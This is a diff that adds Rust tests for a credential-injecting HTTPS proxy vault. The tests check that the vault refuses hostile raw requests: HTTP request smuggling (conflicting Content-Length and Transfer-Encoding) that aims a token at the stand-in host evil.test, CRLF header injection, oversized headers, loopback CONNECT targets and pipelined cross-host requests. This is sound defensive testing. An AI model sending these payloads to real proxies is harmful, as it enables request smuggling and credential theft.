@@ -91,6 +91,11 @@ async fn world(allow_out: &[&str]) -> World {
 
 /// A world whose vault resolves names (those without an override) with `resolver`.
 async fn world_resolving(allow_out: &[&str], resolver: Option<Arc<dyn Resolve>>) -> World {
+    world_with(allow_out, resolver, Vec::new()).await
+}
+
+/// A world whose binding also holds `extra` credentials.
+async fn world_with(allow_out: &[&str], resolver: Option<Arc<dyn Resolve>>, extra: Vec<Credential>) -> World {
     let _ = rustls::crypto::ring::default_provider().install_default();
     let dir = tempfile::tempdir().unwrap();
     let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
@@ -130,7 +135,10 @@ async fn world_resolving(allow_out: &[&str], resolver: Option<Arc<dyn Resolve>>)
                 real: Secret::new(AI_REAL),
                 hosts: vec!["*.openai.test".into()],
             },
-        ],
+        ]
+        .into_iter()
+        .chain(extra)
+        .collect(),
         Policy::new(&allow_out.iter().map(|s| s.to_string()).collect::<Vec<_>>(), &[]),
     ));
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
@@ -548,4 +556,398 @@ async fn a_name_that_resolves_to_an_internal_address_is_refused_before_any_dial(
     );
     assert_eq!(dialed.load(Ordering::SeqCst), 0, "the vault dialed a rebound address");
     assert!(w.seen().is_empty());
+}
+
+/// A TLS connection through the vault's CONNECT tunnel to `host:port`, speaking HTTP/1.1 (ALPN),
+/// on which a test writes raw bytes that curl would never produce.
+async fn raw_tunnel(w: &World, host: &str, port: u16) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let mut tcp = tokio::net::TcpStream::connect(w.proxy).await.unwrap();
+    tcp.write_all(format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n").as_bytes())
+        .await
+        .unwrap();
+    let mut head = Vec::new();
+    while !head.ends_with(b"\r\n\r\n") {
+        head.push(tcp.read_u8().await.unwrap());
+    }
+    assert!(head.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&head));
+    let mut roots = rustls::RootCertStore::empty();
+    let pem = std::fs::read(&w.vault_ca).unwrap();
+    roots
+        .add(rustls_pki_types::pem::PemObject::from_pem_slice(&pem).unwrap())
+        .unwrap();
+    let mut config = rustls::ClientConfig::builder()
+        .with_root_certificates(roots)
+        .with_no_client_auth();
+    config.alpn_protocols = vec![b"http/1.1".to_vec()];
+    let name = rustls_pki_types::ServerName::try_from(host.to_owned()).unwrap();
+    tokio_rustls::TlsConnector::from(Arc::new(config))
+        .connect(name, tcp)
+        .await
+        .unwrap()
+}
+
+/// Writes `request` raw on a fresh tunnel to api.github.test and reads until the vault closes the
+/// connection (or 10 s pass); returns everything it answered.
+async fn raw_exchange(w: &World, request: &[u8]) -> String {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let mut tls = raw_tunnel(w, "api.github.test", w.upstream_port).await;
+    // The vault may answer and close before it has read everything (an oversized head): that is fine.
+    let _ = tls.write_all(request).await;
+    let _ = tls.flush().await;
+    let mut answer = Vec::new();
+    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), tls.read_to_end(&mut answer)).await;
+    String::from_utf8_lossy(&answer).into_owned()
+}
+
+/// Every request the upstream saw has one framing: never Content-Length and Transfer-Encoding
+/// together, never two Content-Lengths, and a Content-Length equal to the body it carried.
+fn assert_well_framed(seen: &[Seen]) {
+    for request in seen {
+        let lengths: Vec<_> = request.headers.iter().filter(|(n, _)| n == "content-length").collect();
+        let chunked = request.header("transfer-encoding").is_some();
+        assert!(lengths.len() <= 1, "two Content-Lengths upstream: {request:?}");
+        assert!(!chunked || lengths.is_empty(), "CL and TE upstream: {request:?}");
+        if let Some((_, len)) = lengths.first() {
+            assert_eq!(len.parse::<usize>().unwrap(), request.body.len(), "{request:?}");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn smuggling_with_content_length_and_transfer_encoding_together_is_normalised_or_refused() {
+    let w = world(&[]).await;
+    let host = format!("api.github.test:{}", w.upstream_port);
+    // CL says 6 bytes (`0\r\n\r\nG`… cut short), TE says an empty chunked body followed by a second,
+    // smuggled request. A front end and a back end that disagree would see different requests.
+    let smuggled = format!(
+        "POST /first HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\nContent-Length: 6\r\n\
+         Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled?t={AI_STUB} HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+    );
+    let answer = raw_exchange(&w, smuggled.as_bytes()).await;
+    assert!(!answer.contains(GH_REAL), "{answer}");
+    let seen = w.seen();
+    assert_well_framed(&seen);
+    // Either the vault refused the ambiguous request outright, or it read it as chunked (RFC 9112
+    // §6.3: TE wins, and the connection is closed after the response), so the trailing bytes are
+    // never read as a second request.
+    assert!(seen.len() <= 1, "{seen:?}");
+    assert!(
+        seen.iter().all(|r| r.path == "/first" && r.body.is_empty()),
+        "the upstream saw exactly the first request, empty: {seen:?}"
+    );
+    if seen.is_empty() {
+        assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
+    } else {
+        assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "one response only: {answer}");
+        assert!(answer.to_ascii_lowercase().contains("connection: close"), "{answer}");
+        assert_eq!(
+            seen[0].header("authorization"),
+            Some(format!("Bearer {GH_REAL}").as_str())
+        );
+    }
+    assert!(!seen.iter().any(|r| r.path.contains("smuggled")));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn smuggling_with_conflicting_content_lengths_is_refused_before_the_upstream() {
+    let w = world(&[]).await;
+    let host = format!("api.github.test:{}", w.upstream_port);
+    for lengths in ["Content-Length: 5\r\nContent-Length: 41", "Content-Length: 5, 41"] {
+        let request = format!(
+            "POST /dup HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\n{lengths}\r\n\r\n\
+             helloGET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n"
+        );
+        let answer = raw_exchange(&w, request.as_bytes()).await;
+        assert!(answer.starts_with("HTTP/1.1 400"), "{lengths:?}: {answer}");
+    }
+    // Transfer-Encoding other than a final `chunked` and obsolete line folding: refused too.
+    for head in [
+        "Transfer-Encoding: chunked, identity",
+        "Transfer-Encoding: identity",
+        "X-Folded: a\r\n b",
+    ] {
+        let request = format!("POST /te HTTP/1.1\r\nHost: {host}\r\n{head}\r\nContent-Length: 5\r\n\r\nhello");
+        let answer = raw_exchange(&w, request.as_bytes()).await;
+        assert!(answer.starts_with("HTTP/1.1 400"), "{head:?}: {answer}");
+    }
+    assert!(w.seen().is_empty(), "{:?}", w.seen());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_credential_value_with_cr_lf_never_splits_a_header_upstream() {
+    const CRLF_STUB: &str = "stub_crlf_token_0badc0de";
+    let w = world_with(
+        &[],
+        None,
+        vec![Credential {
+            name: "CRLF_TOKEN".into(),
+            stub: CRLF_STUB.into(),
+            real: Secret::new("innocent\r\nX-Injected: yes\r\n\r\nGET /split HTTP/1.1"),
+            hosts: vec!["api.github.test".into()],
+        }],
+    )
+    .await;
+    let url = w.url("api.github.test", "/crlf");
+    let query = w.url("api.github.test", &format!("/crlf?t={CRLF_STUB}"));
+    let bearer = format!("Authorization: Bearer {CRLF_STUB}");
+    let basic = format!("x-access-token:{CRLF_STUB}");
+    // In a header value or the path, the swapped value would be invalid: refused, nothing sent.
+    for args in [vec!["-H", bearer.as_str(), url.as_str()], vec![query.as_str()]] {
+        let (status, output) = w.curl(&[&["--http1.1"][..], &args].concat()).await;
+        assert_eq!(status, 400, "{args:?}: {output}");
+        assert!(w.seen().is_empty(), "{:?}", w.seen());
+    }
+    // A Basic header re-encodes to base64, which holds no CR/LF: it passes, whole, in one header.
+    let (status, output) = w.curl(&["--http1.1", "-u", &basic, &url]).await;
+    assert_eq!(status, 200, "{output}");
+    let seen = w.seen();
+    assert!(seen.len() <= 1, "{seen:?}");
+    for request in &seen {
+        assert!(request.header("x-injected").is_none(), "{request:?}");
+        assert!(request.header("authorization").unwrap().starts_with("Basic "));
+        assert_ne!(request.path, "/split");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn oversized_headers_are_refused_and_the_upstream_is_untouched() {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let w = world(&[]).await;
+    let host = format!("api.github.test:{}", w.upstream_port);
+    let huge = "a".repeat(1024 * 1024);
+    // One 1 MiB header value inside the tunnel, with a stub after it.
+    let request =
+        format!("GET /big HTTP/1.1\r\nHost: {host}\r\nX-Big: {huge}\r\nAuthorization: Bearer {GH_STUB}\r\n\r\n");
+    let answer = raw_exchange(&w, request.as_bytes()).await;
+    assert!(
+        answer.is_empty() || answer.starts_with("HTTP/1.1 431") || answer.starts_with("HTTP/1.1 400"),
+        "{}",
+        &answer[..answer.len().min(300)]
+    );
+    // Many small headers adding up to 1 MiB.
+    let many: String = (0..32 * 1024)
+        .map(|i| format!("X-H{i}: {}\r\n", "b".repeat(24)))
+        .collect();
+    let request = format!("GET /many HTTP/1.1\r\nHost: {host}\r\n{many}\r\n");
+    let answer = raw_exchange(&w, request.as_bytes()).await;
+    assert!(
+        answer.is_empty() || answer.starts_with("HTTP/1.1 431") || answer.starts_with("HTTP/1.1 400"),
+        "{}",
+        &answer[..answer.len().min(300)]
+    );
+    // A 1 MiB head on the proxy listener itself, before any CONNECT is accepted.
+    let mut tcp = tokio::net::TcpStream::connect(w.proxy).await.unwrap();
+    let connect = format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\nX-Big: {huge}\r\n\r\n");
+    let _ = tcp.write_all(connect.as_bytes()).await;
+    let mut answer = Vec::new();
+    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), tcp.read_to_end(&mut answer)).await;
+    let answer = String::from_utf8_lossy(&answer);
+    assert!(!answer.starts_with("HTTP/1.1 200"), "{answer}");
+    assert!(w.seen().is_empty(), "{:?}", w.seen());
+    // The vault still serves after all that.
+    let (status, _) = w.curl(&[&w.url("api.github.test", "/after")]).await;
+    assert_eq!(status, 200);
+}
+
+/// Writes `request` raw on the proxy listener itself (no tunnel) and returns the answer's head.
+async fn raw_proxy(w: &World, request: &str) -> String {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let mut tcp = tokio::net::TcpStream::connect(w.proxy).await.unwrap();
+    let _ = tcp.write_all(request.as_bytes()).await;
+    let mut answer = Vec::new();
+    let mut byte = [0u8; 1];
+    let read_head = async {
+        while !answer.ends_with(b"\r\n\r\n") && tcp.read(&mut byte).await.is_ok_and(|n| n == 1) {
+            answer.push(byte[0]);
+        }
+    };
+    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), read_head).await;
+    String::from_utf8_lossy(&answer).into_owned()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn malformed_connect_targets_are_rejected_without_a_lookup() {
+    let resolver = Arc::new(FixedResolver {
+        answers: Vec::new(),
+        asked: Mutex::new(Vec::new()),
+    });
+    let w = world_resolving(&[], Some(resolver.clone())).await;
+    let port = w.upstream_port;
+    for target in [
+        "api.github.test:0".to_owned(),
+        "api.github.test:65536".to_owned(),
+        format!("api.github.test:{}", u32::from(port) + 65536),
+        "api.github.test".to_owned(),
+        "api.github.test:".to_owned(),
+        format!("user:pass@api.github.test:{port}"),
+        format!("api.github.test :{port}"),
+        format!("::1:{port}"),
+        format!("api.github.test:{port}/path"),
+    ] {
+        let answer = raw_proxy(&w, &format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")).await;
+        assert!(answer.starts_with("HTTP/1.1 400"), "{target:?}: {answer}");
+    }
+    assert!(
+        resolver.asked.lock().unwrap().is_empty(),
+        "{:?}",
+        resolver.asked.lock().unwrap()
+    );
+    assert!(w.seen().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn ip_literals_and_the_proxy_itself_are_internal_destinations() {
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    let trap = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let trap_port = trap.local_addr().unwrap().port();
+    let dialed = Arc::new(AtomicUsize::new(0));
+    let counter = dialed.clone();
+    tokio::spawn(async move {
+        while trap.accept().await.is_ok() {
+            counter.fetch_add(1, Ordering::SeqCst);
+        }
+    });
+    // The system resolver: IP literals never reach DNS.
+    let w = world(&[]).await;
+    let proxy_port = w.proxy.port();
+    for target in [
+        format!("127.0.0.1:{trap_port}"),
+        format!("127.0.0.2:{trap_port}"),
+        format!("[::1]:{trap_port}"),
+        format!("[0:0::1]:{trap_port}"),
+        format!("[::ffff:127.0.0.1]:{trap_port}"),
+        format!("[::ffff:7f00:1]:{trap_port}"),
+        format!("127.0.0.1:{proxy_port}"),
+        format!("localhost:{trap_port}"),
+    ] {
+        let answer = raw_proxy(&w, &format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")).await;
+        assert!(answer.starts_with("HTTP/1.1 403"), "{target}: {answer}");
+        assert!(
+            answer.contains("x-lap-vault-blocked: egress-policy"),
+            "{target}: {answer}"
+        );
+    }
+    assert_eq!(dialed.load(Ordering::SeqCst), 0, "the vault dialed an internal address");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_absolute_form_target_inside_a_tunnel_cannot_leave_it() {
+    let w = world(&[]).await;
+    let port = w.upstream_port;
+    for request in [
+        format!("GET https://evil.test:{port}/x HTTP/1.1\r\nHost: api.github.test:{port}\r\n\r\n"),
+        format!(
+            "GET https://evil.test:{port}/x HTTP/1.1\r\nHost: api.github.test:{port}\r\n\
+             Authorization: Bearer {GH_STUB}\r\n\r\n"
+        ),
+    ] {
+        let answer = raw_exchange(
+            &w,
+            format!("{request}")
+                .replace("HTTP/1.1\r\n", "HTTP/1.1\r\nConnection: close\r\n")
+                .as_bytes(),
+        )
+        .await;
+        assert!(
+            answer.starts_with("HTTP/1.1 421") || answer.starts_with("HTTP/1.1 403"),
+            "{answer}"
+        );
+    }
+    assert!(w.seen().is_empty(), "{:?}", w.seen());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pipelined_requests_are_each_checked_on_their_own() {
+    let w = world(&[]).await;
+    let host = format!("api.github.test:{}", w.upstream_port);
+    let evil = format!("evil.test:{}", w.upstream_port);
+    let pipelined = format!(
+        "GET /one HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\n\r\n\
+         GET /two HTTP/1.1\r\nHost: {evil}\r\nAuthorization: Bearer {GH_STUB}\r\n\r\n\
+         GET /three HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {AI_STUB}\r\n\r\n\
+         GET /four HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\nConnection: close\r\n\r\n"
+    );
+    let answer = raw_exchange(&w, pipelined.as_bytes()).await;
+    let statuses: Vec<&str> = answer
+        .match_indices("HTTP/1.1 ")
+        .map(|(i, _)| &answer[i + 9..i + 12])
+        .collect();
+    assert_eq!(statuses, ["200", "403", "403", "200"], "{answer}");
+    assert!(!answer.contains(GH_REAL), "{answer}");
+    let seen = w.seen();
+    assert_eq!(
+        seen.iter().map(|s| s.path.as_str()).collect::<Vec<_>>(),
+        ["/one", "/four"]
+    );
+    assert_all_bearer(&seen, GH_REAL);
+}
+
+fn assert_all_bearer(seen: &[Seen], real: &str) {
+    for request in seen {
+        assert_eq!(
+            request.header("authorization"),
+            Some(format!("Bearer {real}").as_str()),
+            "{request:?}"
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_stub_written_one_byte_per_tls_record_is_still_swapped() {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let w = world(&[]).await;
+    let host = format!("api.github.test:{}", w.upstream_port);
+    let body = format!("{{\"t\":\"{GH_STUB}\"}}");
+    let request = format!(
+        "POST /bytes HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\n\
+         Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    );
+    let mut tls = raw_tunnel(&w, "api.github.test", w.upstream_port).await;
+    for byte in request.as_bytes() {
+        tls.write_all(&[*byte]).await.unwrap();
+        tls.flush().await.unwrap();
+    }
+    let mut answer = Vec::new();
+    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), tls.read_to_end(&mut answer)).await;
+    let answer = String::from_utf8_lossy(&answer);
+    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
+    assert!(!answer.contains(GH_REAL), "{answer}");
+    let seen = w.seen();
+    assert_all_bearer(&seen, GH_REAL);
+    assert_eq!(seen[0].body, format!("{{\"t\":\"{GH_REAL}\"}}").as_bytes());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn substitution_is_one_pass_and_never_crosses_credentials() {
+    const CHAIN_STUB: &str = "stub_chain_token_c4a1b2d3";
+    let chain_real = format!("chain-real-holding-{GH_STUB}-inside");
+    let w = world_with(
+        &[],
+        None,
+        vec![Credential {
+            name: "CHAIN_TOKEN".into(),
+            stub: CHAIN_STUB.into(),
+            real: Secret::new(chain_real.clone()),
+            hosts: vec!["api.github.test".into()],
+        }],
+    )
+    .await;
+    let url = w.url("api.github.test", "/chain");
+    let (status, output) = w
+        .curl(&["-H", &format!("Authorization: Bearer {CHAIN_STUB}"), &url])
+        .await;
+    assert_eq!(status, 200, "{output}");
+    assert_all_bearer(&w.seen(), &chain_real);
+    assert!(!output.contains(GH_REAL), "{output}");
+    assert!(output.contains(&format!("auth=Bearer {CHAIN_STUB}")), "{output}");
+    // Credential A's stub toward a host bound only to credential B: refused, not swapped for either.
+    let openai = w.url("api.openai.test", "/cross");
+    let (status, output) = w
+        .curl(&["-H", &format!("Authorization: Bearer {GH_STUB}"), &openai])
+        .await;
+    assert_eq!(status, 403, "{output}");
+    assert!(output.contains("x-lap-vault-blocked: credential-not-bound"), "{output}");
+    assert_eq!(w.seen().len(), 1);
 }
